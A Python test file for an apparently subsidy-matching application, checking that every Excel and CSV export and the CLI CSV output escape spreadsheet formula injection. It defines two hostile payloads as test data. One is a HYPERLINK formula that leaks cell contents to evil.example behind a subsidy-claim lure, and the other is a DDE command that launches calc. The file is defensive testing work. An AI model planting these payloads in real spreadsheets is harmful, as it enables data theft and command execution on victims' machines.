"""Every export (the pages' Excel and CSV downloads, the CLI's CSV files) is safe to open in
a spreadsheet: an enterprise that names itself ``=HYPERLINK(…)`` reaches the file as text,
never as a formula, while numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl import load_workbook  # type: ignore[import-untyped]
from typer.testing import CliRunner

from huiqi.api.access import endpoints
from huiqi.cells import FORMULA_START, csv_value, is_formula
from huiqi.service import enterprises, matching
from huiqi.service.schemas import EnterpriseUpdate
from service_fixtures import ROOT

from .conftest import Site

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")'
DISTRICT = "+cmd|' /C calc'!A0"
#: every download of the pages, and how the test reaches it (a new one fails the test
#: until it is added here)
EXPORTS = {
    "/match/{code}/summary.xlsx": ("GET", "/match/{own}/summary.xlsx"),
    "/calculator/summary.xlsx": ("POST", "/calculator/summary.xlsx"),
    "/staff/results/{pack}/{policy}/{clause}/export.csv":
        ("GET", "/staff/results/language/lang/rd_subsidy/export.csv"),
    "/staff/results/{pack}/{policy}/{clause}/export.xlsx":
        ("GET", "/staff/results/language/lang/rd_subsidy/export.xlsx"),
}
#: the analytics downloads: checked with hostile names in tests/web/test_analytics_pages.py
ANALYTICS_EXPORTS = {"/staff/evaluation/export.xlsx", "/staff/chains/{key}/targets.xlsx",
                     "/staff/chains/{key}/export.xlsx", "/staff/market/matches.xlsx"}
#: the vouchers' reconciliation: written through web/sheets (huiqi.cells), tested in tests/vouchers
VOUCHER_EXPORTS = {"/staff/vouchers/{key}/reconciliation.xlsx"}


def test_the_neutral_form_of_a_cell() -> None:
    for start in FORMULA_START:
        assert csv_value(start + "1+1") == "'" + start + "1+1"
    assert [csv_value(v) for v in ("-5", "+3.25", "1e6", "-0.5", 7, None)] == [
        "-5", "+3.25", "1e6", "-0.5", 7, None]
    assert csv_value("青岛=海纳") == "青岛=海纳" and not is_formula("A=1")


def _xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    wb = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.value is not None]


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def _assert_safe_csv(cells: list[str]) -> None:
    assert not [c for c in cells if is_formula(c)], cells


def test_every_page_export_keeps_a_hostile_name_as_text(site: Site) -> None:
    app_exports = {path for _m, path, _r in endpoints(site.client.app)
                   if path.endswith((".csv", ".xlsx"))}
    assert app_exports == set(EXPORTS) | ANALYTICS_EXPORTS | VOUCHER_EXPORTS, "a new export: add it to EXPORTS"
    ctx = site.world.ctx("admin")
    enterprises.update(ctx, site.world.own, EnterpriseUpdate(name=HOSTILE, district=DISTRICT,
                                                                   moved_on=dt.date(2025, 7, 1)))
    matching.run(ctx, "language")
    site.sign_in("admin")
    for method, address in EXPORTS.values():
        url = address.format(own=site.world.own)
        r = (site.client.get(url) if method == "GET" else
             site.client.post(url, data={"name": HOSTILE}))
        assert r.status_code == 200, (url, r.text[:300])
        if url.endswith(".xlsx"):
            cells = _xlsx_cells(r.content)
            # the name as it is (alone, or first on a line), as a string cell
            assert any(t == "s" and str(v).startswith(HOSTILE) for v, t in cells), url
            assert not [v for v, t in cells if t == "f"], url  # no formula anywhere
            if "/export." in url:  # money stays a number
                assert any(t == "n" and v == 80000 for v, t in cells), cells
        else:
            cells = _csv_cells(r.content.decode("utf-8"))
            assert "'" + HOSTILE in cells and "'" + DISTRICT in cells
            _assert_safe_csv(cells)
            assert "80000.00" in cells  # money stays a number


def test_the_cli_csv_files_keep_hostile_names_as_text(tmp_path: Path) -> None:
    from huiqi.cli.app import app
    from huiqi.generator import table as generate

    t = generate(300, 9, dt.date(2025, 6, 1))
    hostile = pa.array([HOSTILE + str(i) for i in range(t.num_rows)])
    t = t.set_column(t.schema.get_field_index("name"), "name", hostile)
    t = t.set_column(t.schema.get_field_index("district"), "district",
                     pa.array([DISTRICT] * t.num_rows))
    park = tmp_path / "park.parquet"
    pq.write_table(t, park)
    seed = str(ROOT / "policies" / "seed")
    runner = CliRunner()
    r = runner.invoke(app, ["match-all", "-p", seed, "-d", str(park), "--as-of", "2025-06-01",
                            "-o", str(tmp_path / "r.parquet"), "--summary",
                            str(tmp_path / "summary")])
    assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["simulate", "--reform",
                            str(ROOT / "examples" / "reforms" / "xm-voucher-raise.yaml"),
                            "-p", seed, "-d", str(park), "--as-of", "2025-06-01",
                            "-o", str(tmp_path / "sim")])
    assert r.exit_code == 0, r.output
    files = sorted((tmp_path / "summary").glob("*.csv")) + sorted((tmp_path / "sim").glob("*.csv"))
    assert {f.name for f in files} >= {"by_district.csv", "largest_changes.csv"}
    seen: set[str] = set()
    for f in files:
        cells = _csv_cells(f.read_text("utf-8"))
        _assert_safe_csv(cells)
        seen.update(c for c in cells if c.startswith("'"))
    assert "'" + DISTRICT in seen and any(c.startswith("'" + HOSTILE) for c in seen)
